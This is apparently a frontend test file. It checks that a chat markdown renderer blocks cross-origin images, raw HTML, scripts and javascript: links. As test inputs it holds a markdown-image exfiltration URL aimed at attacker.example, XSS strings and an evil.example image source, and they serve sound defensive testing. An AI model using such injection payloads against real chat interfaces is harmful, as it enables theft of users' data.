import { render, screen } from '@testing-library/react';
import { isAllowedImageSource, MarkdownMessage } from './markdown-message.js';

describe('MarkdownMessage', () => {
  it('renders markdown with tables and safe links', () => {
    render(
      <MarkdownMessage
        text={'**Top** products:\n\n| name | qty |\n|---|---|\n| Mug | 3 |\n\n[docs](https://example.com/x)'}
      />,
    );
    expect(screen.getByText('Top').tagName).toBe('STRONG');
    expect(screen.getByRole('table')).toBeInTheDocument();
    const link = screen.getByRole('link', { name: 'docs' });
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(link).toHaveAttribute('target', '_blank');
  });

  it('never loads an image from elsewhere: an injected exfiltration URL stays text', () => {
    const { container } = render(
      <MarkdownMessage
        text={'Summary ![x](https://attacker.example/log?data=secret-orders) and ![logo](/favicon.svg)'}
      />,
    );
    const images = container.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]).toHaveAttribute('src', '/favicon.svg');
    expect(screen.getByText(/image not loaded: x/)).toBeInTheDocument();
  });

  it('renders raw HTML and javascript: links inert', () => {
    const { container } = render(
      <MarkdownMessage
        text={'<img src="https://attacker.example/p.png"><script>alert(1)</script> [click](javascript:alert(1))'}
      />,
    );
    expect(container.querySelector('script')).toBeNull();
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('click').closest('a')?.getAttribute('href') ?? '').not.toMatch(/^javascript:/);
  });

  it('allows same-origin and data images only', () => {
    const origin = 'http://127.0.0.1:8000';
    expect(isAllowedImageSource({ source: '/a.png', origin })).toBe(true);
    expect(isAllowedImageSource({ source: 'data:image/png;base64,AAAA', origin })).toBe(true);
    expect(isAllowedImageSource({ source: 'https://cdn.example/a.png', origin })).toBe(false);
    expect(isAllowedImageSource({ source: '//evil.example/a.png', origin })).toBe(false);
  });
});
